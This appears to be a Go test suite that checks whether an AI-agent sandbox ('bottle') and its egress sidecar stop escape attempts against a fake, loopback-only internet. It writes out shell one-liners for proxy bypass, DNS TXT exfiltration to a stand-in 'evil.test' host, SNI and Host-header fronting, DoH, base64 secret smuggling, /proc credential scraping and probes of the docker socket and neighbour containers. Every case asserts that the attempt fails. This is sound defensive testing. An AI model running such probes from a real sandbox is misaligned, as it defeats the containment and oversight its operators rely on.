// Package escape is the shared escape suite: from inside a real bottle it
// tries every way out, while fake upstreams on a hermetic "internet"
// record every hit they get. Every backend runs it with its own Harness; a
// test fails on any forbidden hit. Its fake internet never reaches past
// loopback or the test's own networks, and product code never imports it.
package escape

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/bot-bottle/bot-bottle/internal/backend"
	"github.com/bot-bottle/bot-bottle/internal/egress"
	"github.com/bot-bottle/bot-bottle/internal/secret"
	"github.com/bot-bottle/bot-bottle/internal/testinfra/escape/hits"
)

// Names upstreamd serves; the policy allows AllowedHost only.
const (
	AllowedHost  = "api.allowed.test"
	UnlistedHost = "other.test"
	// Token is the credential the sidecar injects on AllowedHost. It must
	// arrive upstream and never be visible in the bottle.
	Token = "bb-escape-token-7f3a9c1e5d" //nolint:gosec // G101: a test credential
	// ProbePath is where the probe binary is provisioned in the bottle,
	// unless the harness says otherwise.
	ProbePath = "/usr/local/bin/bb-probe"
)

const policyJSON = `{"version": 1, "bottle": "escape", "log": 2,
  "routes": [{"host": "` + AllowedHost + `", "auth": {"scheme": "Bearer", "slot": "EGRESS_TOKEN_0"},
    "matches": [{"paths": [{"type": "prefix", "value": "/allowed"}, {"type": "prefix", "value": "/forbidden"}]}],
    "dlp": {"outbound": ["token_patterns", "known_secrets"], "inbound": [], "on_match": "block"}, "git_fetch": false}],
  "tokens": [{"slot": "EGRESS_TOKEN_0", "env": "ESCAPE_TOKEN", "hosts": ["` + AllowedHost + `"]}]}`

// Internet is the fake internet a harness built.
type Internet struct {
	// Upstream is upstreamd's address as the sidecar reaches it.
	Upstream string
	// Control is upstreamd's control URL, reachable from the test.
	Control string
	// CAFile is the PEM CA that signed upstreamd's certificates.
	CAFile string
	// HostServices are TCP listeners ("ip:port") of the machine running
	// the bottles, at the addresses a bottle could try to reach it by.
	HostServices []string
}

// Addrs are a started bottle's addresses, as its neighbours see them.
type Addrs struct {
	// Sidecar is the sidecar's address on the bottle's network.
	Sidecar string
	// Agent is the agent runtime's address, if it has one.
	Agent string
	// Gateway is the bottle network's gateway address, if it has one.
	Gateway string
}

// Harness is what a backend gives the suite.
type Harness struct {
	Backend  backend.Backend
	Internet Internet
	// Image is an agent image with bash, curl, git and dig.
	Image backend.Image
	// User is the agent user of Image.
	User backend.User
	// Probe is the host path of the static probe binary.
	Probe string
	// Addrs reports a started bottle's addresses.
	Addrs func(t *testing.T, slug string) Addrs
	// KillSidecar, when set, kills a bottle's sidecar process the way a
	// crash would.
	KillSidecar func(t *testing.T, slug string)
	// ProbePath overrides where the probe is provisioned (a native bottle
	// can only be given files in its home and /tmp).
	ProbePath string
	// Resolver says the bottle's DNS is the sidecar's resolver; without
	// one, DNS must have nowhere to go at all.
	Resolver bool
	// HostRoot says the bottle sees the host's own folders (/var, /etc,
	// ...) read-only, as a native one does.
	HostRoot bool
	// GitHost is an address of this machine where the suite runs its
	// git server: the sidecar reaches it, the bottle must not.
	GitHost string
}

func (h *Harness) probePath() string {
	if h.ProbePath != "" {
		return h.ProbePath
	}
	return ProbePath
}

// Spec returns a spec for a bottle of the suite's policy.
func (h *Harness) Spec(t *testing.T, slug string) *backend.Spec {
	t.Helper()
	dir := t.TempDir()
	if _, err := egress.LoadOrCreateCA(filepath.Join(dir, "ca"), "escape"); err != nil {
		t.Fatal(err)
	}
	pol := filepath.Join(dir, "policy.json")
	if err := os.WriteFile(pol, []byte(policyJSON), 0o600); err != nil {
		t.Fatal(err)
	}
	probe, err := os.ReadFile(h.Probe)
	if err != nil {
		t.Fatal(err)
	}
	return &backend.Spec{
		Slug: slug, Agent: "escape", Bottles: []string{"escape"},
		StateDir:   dir,
		PolicyFile: pol,
		CADir:      filepath.Join(dir, "ca"),
		AuditFile:  filepath.Join(dir, "audit.jsonl"),
		Secrets:    map[string]secret.Value{"EGRESS_TOKEN_0": secret.New(Token)},
		// The suite knows the control token, to look for it in the bottle
		// and to try it on every sidecar port the bottle can reach.
		ControlToken: secret.New(ControlToken),
		UpstreamCA:   h.Internet.CAFile,
		Resolve:      map[string]string{AllowedHost: h.Internet.Upstream + ":443", UnlistedHost: h.Internet.Upstream + ":443"},
		Image:        h.Image,
		User:         h.User,
		Files:        []backend.File{{Path: h.probePath(), Mode: 0o755, Data: probe, Root: true}},
		Workspace:    backend.Workspace{Mode: backend.WorkspaceNone, Path: "/workspace"},
		Command:      []string{"sleep", "infinity"},
		OwnerPID:     os.Getpid(),
	}
}

// start starts a bottle, removes it when t ends, and returns its spec.
func (h *Harness) start(t *testing.T, slug string) *backend.Spec {
	t.Helper()
	var progress bytes.Buffer
	spec := h.Spec(t, slug)
	t.Cleanup(func() { _ = h.Backend.Stop(context.Background(), slug) })
	if err := h.Backend.Start(context.Background(), spec, &progress); err != nil {
		t.Fatalf("starting bottle %s: %v\n%s", slug, err, progress.String())
	}
	return spec
}

// sh runs a shell command in the bottle and returns its output and status.
func (h *Harness) sh(t *testing.T, slug, script string) (string, int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	var out bytes.Buffer
	script = strings.ReplaceAll(script, "bb-probe ", h.probePath()+" ")
	code, err := h.Backend.Exec(ctx, slug, backend.Exec{Cmd: []string{"bash", "-c", script}, Stdio: backend.Stdio{Stdout: &out, Stderr: &out}})
	if err != nil {
		t.Fatalf("exec %q: %v", script, err)
	}
	return out.String(), code
}

// Run runs the suite against h.
func Run(t *testing.T, h *Harness) {
	ctx := context.Background()
	if err := hits.Reset(ctx, h.Internet.Control); err != nil {
		t.Fatalf("resetting upstreamd: %v", err)
	}
	slug := fmt.Sprintf("escape-%d", time.Now().UnixNano()%100_000_000)
	spec := h.start(t, slug)
	addrs := h.Addrs(t, slug)
	up := h.Internet.Upstream

	t.Run("allowed request passes with the credential injected", func(t *testing.T) {
		out, code := h.sh(t, slug, "curl -sS --max-time 20 -H 'Authorization: Bearer agent-made-up' https://"+AllowedHost+"/allowed/ok")
		if code != 0 || !strings.Contains(out, "ok GET /allowed/ok") {
			t.Fatalf("exit %d: %s", code, out)
		}
		got := httpsHits(t, h, "/allowed/ok")
		if len(got) != 1 || got[0].Headers.Get("Authorization") != "Bearer "+Token {
			t.Fatalf("upstream saw %+v", got)
		}
	})
	t.Run("credential is invisible in the bottle", func(t *testing.T) {
		// The token is assembled in the shell so that the script's own
		// command line does not hold it.
		half := len(Token) / 2
		script := `T1='` + Token[:half] + `'; T2='` + Token[half:] + `'; env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | grep -v "^T1="; grep -rsl -- "$T1$T2" /home /root /tmp /etc /workspace /var /run /opt /usr/local 2>/dev/null; true`
		if out, _ := h.sh(t, slug, script); strings.Contains(out, Token) {
			t.Fatalf("token visible in the bottle:\n%s", out)
		}
	})
	cases := []struct {
		name, script string
	}{
		{"unlisted host through the proxy", "curl -sS --max-time 10 -o /dev/null -w '%{http_connect}' https://" + UnlistedHost + "/forbidden/unlisted | grep -qx 403"},
		{"proxy variables unset", "! env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy curl -sS --max-time 5 https://" + AllowedHost + "/forbidden/noproxy"},
		{"proxy unset, upstream address", "! env -u HTTPS_PROXY -u https_proxy curl -sSk --max-time 5 https://" + up + "/forbidden/direct"},
		{"direct TCP 443", "! bb-probe tcp " + up + ":443"},
		{"direct TCP 80", "! bb-probe tcp " + up + ":80"},
		{"direct TCP 22", "! bb-probe tcp " + up + ":22"},
		{"direct UDP", "! bb-probe udp " + up + ":7"},
		{"direct ICMP", "! bb-probe icmp " + up},
		{"direct DNS to the upstream", "! bb-probe dns leak.test A " + up + ":53"},
		{"DNS A of an unlisted name", "! bb-probe dns " + UnlistedHost + " A"},
		{"DNS TXT of an unlisted name", "! bb-probe dns exfil-data.evil.test TXT"},
		{"IP literal via CONNECT", "curl -sSk --max-time 10 -o /dev/null -w '%{http_connect}' https://" + up + "/forbidden/ip | grep -qx 403"},
		{"Host header fronting", "curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H 'Host: " + UnlistedHost + "' https://" + AllowedHost + "/forbidden/fronting | grep -qx 403"},
		{"SNI fronting", "curl -sSk --max-time 10 -o /dev/null -w '%{http_code}' --connect-to " + UnlistedHost + ":443:" + AllowedHost + ":443 https://" + UnlistedHost + "/forbidden/sni | grep -qvx 200"},
		{"DoH", "curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H 'Accept: application/dns-message' 'https://" + AllowedHost + "/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB' | grep -qx 403"},
		{"git push over HTTPS", "cd $(mktemp -d) && git init -q && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && ! git push -q https://" + AllowedHost + "/forbidden/repo.git HEAD:main"},
		{"secret in a request", "curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -d 'x=" + Token + "' https://" + AllowedHost + "/forbidden/dlp | grep -qx 403"},
		{"secret in base64 in a request", "curl -sS --max-time 10 -o /dev/null -w '%{http_code}' https://" + AllowedHost + "/forbidden/dlp64?q=$(printf %s " + Token + " | base64) | grep -qx 403"},
		{"the docker socket", "! test -e /var/run/docker.sock && ! test -e /run/docker.sock"},
		{"sidecar port 22", "! bb-probe tcp " + addrs.Sidecar + ":22"},
		{"sidecar port 80", "! bb-probe tcp " + addrs.Sidecar + ":80"},
		{"sidecar port 443", "! bb-probe tcp " + addrs.Sidecar + ":443"},
		{"sidecar port 9199", "! bb-probe tcp " + addrs.Sidecar + ":9199"},
	}
	if h.Resolver {
		cases = append(cases, struct{ name, script string }{"DNS of the allowed name points at the sidecar", "dig +short " + AllowedHost + " A | grep -qx '" + addrs.Sidecar + "'"})
	} else {
		cases = append(cases, struct{ name, script string }{"DNS has nowhere to go", "! bb-probe dns " + AllowedHost + " A"})
	}
	for _, hs := range h.Internet.HostServices {
		// Named by address only: the port is the test's own, a new one each run.
		host, _, _ := net.SplitHostPort(hs)
		cases = append(cases, struct{ name, script string }{"a host service at " + host, "! bb-probe tcp " + hs})
	}
	if addrs.Gateway != "" {
		cases = append(cases, struct{ name, script string }{"the gateway", "! bb-probe tcp " + addrs.Gateway + ":22 && ! bb-probe icmp " + addrs.Gateway})
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if out, code := h.sh(t, slug, c.script); code != 0 {
				t.Errorf("escape check failed (exit %d):\n%s\n%s", code, c.script, out)
			}
		})
	}
	h.runHostFiles(t, slug)
	h.runControlChannel(t, slug, addrs)
	h.runSmuggling(t, slug)
	h.runInheritedFDs(t, slug+"-fds")
	h.runCopyRace(t, slug+"-copy")
	t.Run("another bottle", func(t *testing.T) {
		other := slug + "-b"
		h.start(t, other)
		// A process of the other bottle that this one must not see.
		if out, code := h.sh(t, other, "(exec -a bb-marker-4242 sleep 600) >/dev/null 2>&1 & echo started"); code != 0 {
			t.Fatalf("marking the other bottle: %s", out)
		}
		for i := 0; ; i++ {
			out, _ := h.sh(t, other, "cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '")
			if strings.Contains(out, "bb-marker-4242") {
				break
			}
			if i == 50 {
				t.Fatalf("the marker is not running in the other bottle; the check proves nothing:\n%s", out)
			}
			time.Sleep(100 * time.Millisecond)
		}
		if out, _ := h.sh(t, slug, "cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '"); strings.Contains(out, "bb-marker-4242") {
			t.Errorf("this bottle sees the other bottle's processes:\n%s", out)
		}
		oa := h.Addrs(t, other)
		for _, target := range []string{oa.Sidecar + ":9099", oa.Sidecar + ":53", oa.Agent + ":22"} {
			// An address both bottles share (loopback) is each one's own.
			if strings.HasPrefix(target, ":") || strings.HasPrefix(target, addrs.Sidecar+":") {
				continue
			}
			if out, code := h.sh(t, slug, "bb-probe tcp "+target); code == 0 {
				t.Errorf("reached the other bottle at %s: %s", target, out)
			}
		}
	})
	h.runCredentialLeaks(t, slug)
	t.Run("live policy", func(t *testing.T) { RunLivePolicy(t, h) })
	t.Run("supervise", func(t *testing.T) { RunSupervise(t, h) })
	t.Run("mounted workspace", func(t *testing.T) { h.runWorkspace(t, slug) })
	if h.KillSidecar != nil {
		t.Run("a dead sidecar leaves no way out", func(t *testing.T) {
			h.KillSidecar(t, slug)
			for _, script := range []string{
				"! curl -sS --max-time 10 https://" + AllowedHost + "/forbidden/after-crash",
				"! bb-probe dns " + AllowedHost + " A",
				"! bb-probe tcp " + up + ":443",
			} {
				if out, code := h.sh(t, slug, script); code != 0 {
					t.Errorf("after the sidecar died: %s\n%s", script, out)
				}
			}
		})
	}
	t.Run("refusals are audited", func(t *testing.T) {
		// Stopping saves the sidecar's audit log to the state folder. The
		// DNS refusals prove the queries reached the bottle's own resolver
		// and went nowhere else.
		if err := h.Backend.Stop(ctx, slug); err != nil {
			t.Fatal(err)
		}
		events := auditEvents(t, filepath.Join(spec.StateDir, "audit.jsonl"))
		wants := []struct{ method, host, rule string }{
			{"CONNECT", UnlistedHost, "host-not-allowed"},
			{"POST", AllowedHost, "dlp-outbound"},
		}
		if h.Resolver {
			wants = append(wants, struct{ method, host, rule string }{"DNS", UnlistedHost, "dns-not-allowed"},
				struct{ method, host, rule string }{"DNS", "exfil-data.evil.test", "dns-not-allowed"})
		}
		for _, want := range wants {
			if !slices.ContainsFunc(events, func(e auditEvent) bool {
				return e.Method == want.method && e.Host == want.host && e.Rule == want.rule && e.Decision == "block"
			}) {
				t.Errorf("no audited refusal %+v in %d events", want, len(events))
			}
		}
		if !slices.ContainsFunc(events, func(e auditEvent) bool { return strings.Contains(e.raw, "[REDACTED]") }) {
			t.Errorf("the host-label and path probes left no redacted record; the check proves nothing")
		}
		for _, e := range events {
			if holdsToken(e.raw) {
				t.Errorf("the audit log holds the token: %s", e.raw)
			}
		}
	})
	t.Run("no forbidden hit", func(t *testing.T) {
		report, _, err := hits.Fetch(ctx, h.Internet.Control)
		if err != nil {
			t.Fatal(err)
		}
		// The sidecar's address is the one its allowed request came from.
		sidecar := map[string]bool{}
		for _, hit := range report {
			if hit.Proto == hits.ProtoHTTPS && hit.SNI == AllowedHost && strings.HasPrefix(hit.Path, "/allowed/") {
				sidecar[remoteIP(hit.Remote)] = true
			}
		}
		if len(sidecar) == 0 {
			t.Errorf("the allowed request left no hit; the suite proves nothing")
		}
		for _, hit := range report {
			if !sidecar[remoteIP(hit.Remote)] || !allowedHit(hit) {
				t.Errorf("forbidden hit: %+v", hit)
			}
		}
	})
}

// allowedHit reports a hit the suite's allowed request explains: the
// sidecar's TLS connection to AllowedHost and its request for /allowed/,
// and the requests the supervise case's grants allowed.
func allowedHit(h hits.Hit) bool {
	switch h.Proto {
	case hits.ProtoTCP:
		return h.Port == 443
	case hits.ProtoTLS:
		return h.SNI == AllowedHost || h.SNI == LiveHost
	case hits.ProtoHTTPS:
		return (h.SNI == AllowedHost || h.SNI == LiveHost) && strings.HasPrefix(h.Path, "/allowed/") ||
			h.SNI == LiveHost && slices.ContainsFunc(grantedPaths, func(p string) bool { return strings.HasPrefix(h.Path, p) })
	}
	return false
}

func httpsHits(t *testing.T, h *Harness, path string) []hits.Hit {
	t.Helper()
	report, _, err := hits.Fetch(context.Background(), h.Internet.Control)
	if err != nil {
		t.Fatal(err)
	}
	var out []hits.Hit
	for _, hit := range report {
		if hit.Proto == hits.ProtoHTTPS && hit.Path == path {
			out = append(out, hit)
		}
	}
	return out
}

type auditEvent struct {
	Method, Host, Rule, Decision string
	raw                          string
}

func auditEvents(t *testing.T, file string) []auditEvent {
	t.Helper()
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatalf("the audit log was not saved: %v", err)
	}
	var out []auditEvent
	for line := range strings.SplitSeq(strings.TrimSpace(string(data)), "\n") {
		var e auditEvent
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatalf("audit line %q: %v", line, err)
		}
		e.raw = line
		out = append(out, e)
	}
	return out
}

func remoteIP(hostport string) string {
	host, _, err := net.SplitHostPort(hostport)
	if err != nil {
		return hostport
	}
	return host
}
